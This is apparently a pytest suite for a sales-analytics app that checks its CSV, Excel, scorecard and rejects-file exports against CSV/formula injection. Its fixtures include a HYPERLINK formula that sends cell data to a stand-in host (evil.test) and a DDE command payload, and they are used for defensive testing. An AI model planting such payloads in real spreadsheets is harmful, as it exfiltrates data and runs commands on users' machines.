"""Formula-like text (starting with =, +, -, @, a tab or a carriage return) is stored as given and
written back as text in every file salesperf writes, never as a formula (CSV injection, OWASP):
the table and scorecard exports of the web app, the scorecard of the command line, and the
rejects files of an import, in CSV (such text with a leading ') and in Excel (string cells with
the text intact, no formula cell at all). Numbers stay numbers, negative ones included.
"""

from __future__ import annotations

import csv
import io
import math
import random
from collections.abc import Callable, Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner

from salesperf.auth.users import add_user, password_hasher
from salesperf.cells import csv_field_sql, csv_fields_sql, csv_row, is_formula_like
from salesperf.cli.app import app as cli
from salesperf.ingest.importer import import_file
from salesperf.metrics.periods import DATE_ONLY_TIME
from salesperf.schema import TABLES
from salesperf.scorecard import scorecard
from salesperf.store import Store
from webtools import ADMIN, PASSWORD, app_for, client_for

Write = Callable[..., Path]

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"see")'
DDE = "=cmd|' /C calc'!A0"
#: Rows with formula-like text in every table that has text, on top of the hand-built `org`.
#: -R9 wins 1000 in March and nothing in April, and logs fewer activities: April's changes
#: against March are negative numbers.
ROWS: dict[str, list[dict[str, str]]] = {
    "teams": [
        {"team_id": "=T9", "name": "+Nine", "parent_team_id": "ORG", "manager_rep_id": "-R9"},
        {"team_id": "T8", "name": "@Eight", "parent_team_id": "=T9", "manager_rep_id": ""},
    ],
    "reps": [
        {"rep_id": "-R9", "name": HYPERLINK, "email": "@r9@x.test", "team_id": "=T9",
         "role": "manager"},
        {"rep_id": "R8", "name": "\tBob", "email": "r8@x.test", "team_id": "T8", "role": "rep"},
    ],
    "accounts": [
        {"account_id": "@C9", "name": DDE, "segment": "-smb", "created_at": "2025-01-05"},
        {"account_id": "C8", "name": "\rCarriage", "segment": "\uff1dwide",
         "created_at": "2025-01-06"},
    ],
    "leads": [
        {"lead_id": "+L9", "created_at": "2025-02-01", "source": "inbound", "rep_id": "-R9",
         "account_id": "@C9", "deal_id": "=D9"},
    ],
    "deals": [
        {"deal_id": "=D9", "rep_id": "-R9", "created_at": "2025-02-10", "status": "won",
         "amount": "1000", "closed_at": "2025-03-14", "account_id": "@C9", "stage": "+proposal",
         "kind": "-new", "lost_reason": ""},
        {"deal_id": "=D8", "rep_id": "-R9", "created_at": "2025-03-01", "status": "lost",
         "amount": "500", "closed_at": "2025-04-20", "account_id": "@C9", "stage": "+proposal",
         "kind": "-new", "lost_reason": "=1+1"},
    ],
    "deal_stages": [{"deal_id": "=D9", "stage": "+proposal", "entered_at": "2025-02-20"}],
    "activities": [
        {"activity_id": "-A9", "rep_id": "-R9", "type": "call", "occurred_at": "2025-03-03T09:00",
         "duration_min": "5", "outcome": "connected", "deal_id": "=D9", "lead_id": "+L9",
         "account_id": "@C9"},
        {"activity_id": "@A8", "rep_id": "-R9", "type": "email",
         "occurred_at": "2025-03-04T09:00", "duration_min": "", "outcome": "sent", "deal_id": "",
         "lead_id": "", "account_id": ""},
        {"activity_id": "+A7", "rep_id": "-R9", "type": "call",
         "occurred_at": "2025-04-03T09:00", "duration_min": "", "outcome": "no_answer",
         "deal_id": "", "lead_id": "", "account_id": ""},
        {"activity_id": "A96", "rep_id": "R8", "type": "email", "occurred_at": "2025-04-03T09:00",
         "duration_min": "", "outcome": "sent", "deal_id": "", "lead_id": "", "account_id": "a=b"},
    ],
    "targets": [
        {"scope": "rep", "scope_id": "-R9", "metric": "revenue_won", "period_start": "2025-04-01",
         "period_end": "2025-04-30", "value": "2000"},
        {"scope": "team", "scope_id": "=T9", "metric": "revenue_won",
         "period_start": "2025-04-01", "period_end": "2025-04-30", "value": "2000"},
    ],
    "surveys": [
        {"response_id": "=S9", "responded_at": "2025-03-10", "scale": "csat5", "score": "4",
         "account_id": "@C9", "rep_id": "-R9"},
    ],
    "absences": [{"rep_id": "-R9", "date": "2025-03-04"}],
}  # fmt: skip
#: Every formula-like text above; any other text is written as it is.
FORMULA_LIKE = {
    "=T9", "+Nine", "-R9", "@Eight", HYPERLINK, "@r9@x.test", "\tBob", "@C9", DDE, "-smb",
    "\rCarriage", "\uff1dwide", "+L9", "=D9", "=D8", "+proposal", "-new", "=1+1", "-A9", "@A8",
    "+A7", "=S9",
}  # fmt: skip
#: The scorecards exported: per rep (with negative changes), per team, split by deal kind.
CARDS: list[dict[str, str]] = [
    {"by": "rep", "period": "2025-04"},
    {"by": "team", "period": "2025-04"},
    {"by": "rep", "period": "2025-03", "split": "kind", "metrics": "deals_won,revenue_won"},
]


def _csv(header: list[str], rows: list[list[Any]]) -> str:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(header)
    w.writerows(rows)
    return out.getvalue()


@pytest.fixture
def formulas(org: Store, write: Write) -> Store:
    """The hand-built organisation with formula-like text in every table, imported as any file."""
    for table, rows in ROWS.items():
        text = _csv(list(rows[0]), [list(r.values()) for r in rows])
        result = import_file(org, table, write(f"formulas-{table}.csv", text))
        assert (result.inserted, result.rejected) == (len(rows), 0), (table, result)
    stored = {v for t in TABLES for v in _texts(org.table(t).to_pandas())}
    assert stored >= FORMULA_LIKE  # stored as given
    return org


@pytest.fixture
def admin(formulas: Store) -> Iterator[tuple[TestClient, str]]:
    """A client of a web app on the store, signed in as an administrator, and its CSRF token."""
    add_user(formulas, ADMIN, PASSWORD, "admin", hasher=password_hasher(cheap=True))
    assert formulas.path is not None
    client, csrf = client_for(app_for(formulas.path), ADMIN)
    assert csrf is not None
    yield client, csrf
    client.close()


def _texts(df: pd.DataFrame) -> set[str]:
    return {v for col in df.columns for v in df[col] if isinstance(v, str)}


def _missing(value: Any) -> bool:
    return (
        value is None
        or value is pd.NA
        or value is pd.NaT
        or (isinstance(value, float) and math.isnan(value))
    )


def _number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def assert_csv(text: str, want: pd.DataFrame) -> None:
    """The CSV holds the frame: formula-like text with one leading ', other text as it is,
    numbers as plain numbers (never prefixed), dates as dates."""
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == list(want.columns)
    assert len(rows) == len(want)
    for got, row in zip(rows, want.astype(object).itertuples(index=False), strict=True):
        for column, cell, value in zip(header, got, row, strict=True):
            where = f"{column} {value!r}: {cell!r}"
            if _missing(value):
                assert cell == "", where
            elif isinstance(value, str):
                assert cell == ("'" + value if value in FORMULA_LIKE else value), where
            elif _number(value):
                assert not cell.startswith("'") and float(cell) == value, where
            else:
                assert pd.Timestamp(cell) == pd.Timestamp(value), where


def assert_xlsx(content: bytes, want: pd.DataFrame) -> None:
    """The workbook holds the frame: no formula cell, text in string cells exactly as stored,
    numbers and dates typed."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = list(sheet.iter_rows())
    assert [c.coordinate for row in cells for c in row if c.data_type == "f"] == []
    assert [c.value for c in cells[0]] == list(want.columns)
    assert len(cells) - 1 == len(want)
    for got, row in zip(cells[1:], want.astype(object).itertuples(index=False), strict=True):
        for cell, value in zip(got, row, strict=True):
            where = f"{cell.coordinate} {value!r}: {cell.value!r}"
            if _missing(value):
                assert cell.value is None, where
            elif isinstance(value, str):
                # Excel keeps a carriage return as _x000D_ (XML would read it as a line feed)
                assert cell.data_type == "s" and unescape(str(cell.value)) == value, where
            elif _number(value):
                assert cell.data_type == "n" and cell.value == pytest.approx(value), where
            else:
                assert isinstance(cell.value, datetime), where
                assert pd.Timestamp(cell.value) == pd.Timestamp(value), where


def assert_file(fmt: str, content: bytes, want: pd.DataFrame) -> None:
    """The CSV or Excel file holds the frame, formula-like text as text."""
    if fmt == "csv":
        assert_csv(content.decode("utf-8"), want)
    else:
        assert_xlsx(content, want)


# -- the rule ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "formula_like"),
    [
        ("=1+1", True), ("+31 20 123", True), ("-R9", True), ("@SUM(A1)", True),
        ("\tBob", True), ("\rA7", True), ("\uff1d1+1", True), ("\uff20x", True),
        ("  =1+1", True), ("\n-2+3", True),
        ("R-9", False), ("a=b", False), ("  plain", False), ("", False), ("   ", False),
        ("'=1+1", False), (-5.0, False), (-5, False), (None, False), (date(2025, 1, 1), False),
    ],
)  # fmt: skip
def test_which_values_are_formula_like(value: Any, formula_like: bool) -> None:
    assert is_formula_like(value) is formula_like


@pytest.mark.slow
def test_the_engines_csv_fields_are_pythons() -> None:
    """The rejects file's fields, made by the staging engine (`csv_field_sql`,
    `csv_fields_sql`), are exactly what `csv.writer` writes of `csv_row`: on seeded random texts
    of the characters that matter (formula starts, Python's whitespace, quotes, commas, line
    breaks, a control character, letters and digits) and on the rule's examples."""
    rng = random.Random(20261206)
    alphabet = list("=+-@'\",\r\n\t\x0b\x0c\x1c\x00 aZ9.") + [
        "\x85", "\xa0", "\u1680", "\u2003", "\u2028", "\u3000", "\uff1d", "\uff0b", "\uff0d",
        "\uff20", "\u0301", "é",
    ]  # fmt: skip
    examples = ["=1+1", "  =1+1", "\n-2+3", "\rA7", "R-9", "a=b", "  plain", "", "   ", "'=1+1"]
    rows: list[list[str | None]] = [[e, None, e] for e in examples]
    for _ in range(3000):
        rows.append(
            [
                None if rng.random() < 0.1 else "".join(rng.choices(alphabet, k=rng.randint(0, 6)))
                for _ in range(3)
            ]
        )
    con = duckdb.connect()
    con.execute("CREATE TABLE t (i INTEGER, a VARCHAR, b VARCHAR, c VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?, ?, ?)", [[i, *r] for i, r in enumerate(rows)])
    got = con.execute(
        f"SELECT {csv_fields_sql(['a', 'b', 'c'])}, {csv_field_sql('a')} FROM t ORDER BY i"
    ).fetchall()
    for row, (line, first) in zip(rows, got, strict=True):
        out = io.StringIO()  # (the line's end, which the rejects file adds, taken off)
        csv.writer(out).writerow(csv_row(["" if v is None else v for v in row]))
        assert line == out.getvalue()[:-2], row
        one = io.StringIO()  # (a line of one empty field is `""` to Python; a field is empty)
        csv.writer(one).writerow(csv_row([row[0] or ""]))
        assert first == ("" if not row[0] else one.getvalue()[:-2]), row


# -- the web app: tables and the scorecard ---------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.slow
def test_every_table_exports_its_text_as_text(
    formulas: Store, admin: tuple[TestClient, str], fmt: str
) -> None:
    client = admin[0]
    exported: set[str] = set()
    for table in TABLES:
        # the canonical form: the stored names and values (times in UTC), for programs
        r = client.get(f"/export/{table}", params={"format": fmt, "headers": "canonical"})
        assert r.status_code == 200, (table, r.text[:300])
        want = formulas.table(table).to_pandas()
        for c in want.columns:  # a date-only value is exported as its calendar day
            if pd.api.types.is_datetime64_any_dtype(want[c]):
                day = want[c].notna() & (want[c].dt.time == DATE_ONLY_TIME)
                want[c] = want[c].where(~day, want[c].dt.normalize())
        assert_file(fmt, r.content, want)
        exported |= _texts(want)
    assert exported >= FORMULA_LIKE


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.slow
def test_the_web_scorecard_exports_its_text_as_text(
    formulas: Store, admin: tuple[TestClient, str], fmt: str
) -> None:
    client = admin[0]
    for params in CARDS:
        r = client.get(
            "/export/scorecard", params={**params, "format": fmt, "headers": "canonical"}
        )
        assert r.status_code == 200, (params, r.text[:300])
        assert_file(fmt, r.content, _card(formulas, params))


def _card(store: Store, params: dict[str, str]) -> pd.DataFrame:
    metrics = tuple(params["metrics"].split(",")) if "metrics" in params else None
    card = scorecard(
        store, by=params["by"], period=params["period"], split=params.get("split"),
        metrics=metrics,
    )  # fmt: skip
    df = card.to_frame()
    texts = _texts(df)
    assert {"-R9", HYPERLINK} <= texts or {"=T9", "+Nine"} <= texts  # the planted rows are in
    return df


# -- the command line: the scorecard -----------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.slow
def test_the_command_lines_scorecard_writes_text_as_text(
    formulas: Store, tmp_path: Path, fmt: str
) -> None:
    runner = CliRunner()
    for i, params in enumerate(CARDS):
        out = tmp_path / f"card-{i}.{fmt}"
        args = ["scorecard", "--store", str(formulas.path), "--format", fmt, "--output", str(out)]
        for option, value in params.items():
            args += [f"--{option}", value]
        result = runner.invoke(cli, args)
        assert result.exit_code == 0, result.output
        assert_file(fmt, out.read_bytes(), _card(formulas, params))
    # the negative change of -R9's revenue in April is a plain number
    df = _card(formulas, CARDS[0])
    assert df.set_index("key").loc["-R9", "revenue_won_change"] == -1000.0
    if fmt == "csv":
        with open(tmp_path / "card-0.csv", encoding="utf-8", newline="") as f:
            rows = {r["key"]: r for r in csv.DictReader(f)}
        assert rows["'-R9"]["revenue_won_change"] == "-1000.0"
        assert rows["'-R9"]["activities_change"] == "-1"
        assert rows["'-R9"]["name"] == "'" + HYPERLINK


# -- rejected rows -------------------------------------------------------------------------------
#: An activities file with a column the table does not know, a row rejected for its outcome, and
#: a line that does not split into the header's columns; all of it formula-like.
REJECTED = (
    _csv(
        ["activity_id", "rep_id", "type", "occurred_at", "outcome", "=notes"],
        [
            ["-X1", "-R9", "call", "2025-04-01T10:00", "connected", "fine"],
            ["@X2", "-R9", "call", "2025-04-01T11:00", "=warp", HYPERLINK],
        ],
    )
    + "=cmd|' /C calc'!A0,a,b,c,d,e,f,g\r\n"
)
REJECTED_ROW = ["'@X2", "'-R9", "call", "2025-04-01T11:00", "'=warp", "'" + HYPERLINK]


def assert_rejects(text: str) -> None:
    """The rejects file: the unknown column's name, the rejected row as given and the line that
    did not split, each formula-like text with a leading '."""
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["line", "problems", "activity_id", "rep_id", "type", "occurred_at",
                      "outcome", "'=notes"]  # fmt: skip
    by_line = {r[0]: r for r in rows}
    assert by_line["3"][2:] == REJECTED_ROW
    assert by_line["3"][1].startswith("outcome: ")
    line = by_line["4"][2]  # the line's text as the reader gives it
    assert line.startswith("'") and line[1:].strip() == "=cmd|' /C calc'!A0,a,b,c,d,e,f,g"


@pytest.mark.slow
def test_the_web_rejects_download_writes_text_as_text(
    formulas: Store, admin: tuple[TestClient, str]
) -> None:
    client, csrf = admin
    r = client.post(
        "/api/import/activities",
        files={"file": ("acts.csv", REJECTED.encode(), "text/csv")},
        headers={"x-csrf-token": csrf},
    )
    assert r.status_code == 200, r.text
    assert (r.json()["inserted"], r.json()["rejected"]) == (1, 2)
    download = client.get(r.json()["rejects_url"])
    assert download.status_code == 200
    assert_rejects(download.text)
    stored = formulas.table("activities").to_pandas().set_index("activity_id")
    assert stored.loc["-X1", "rep_id"] == "-R9"  # the accepted row is stored as given


@pytest.mark.slow
def test_the_import_commands_rejects_file_writes_text_as_text(
    formulas: Store, write: Write, tmp_path: Path
) -> None:
    rejects = tmp_path / "acts.rejects.csv"
    args = ["import", "activities", str(write("acts.csv", REJECTED)), "--store",
            str(formulas.path), "--rejects", str(rejects)]  # fmt: skip
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    with open(rejects, encoding="utf-8", newline="") as f:
        assert_rejects(f.read())
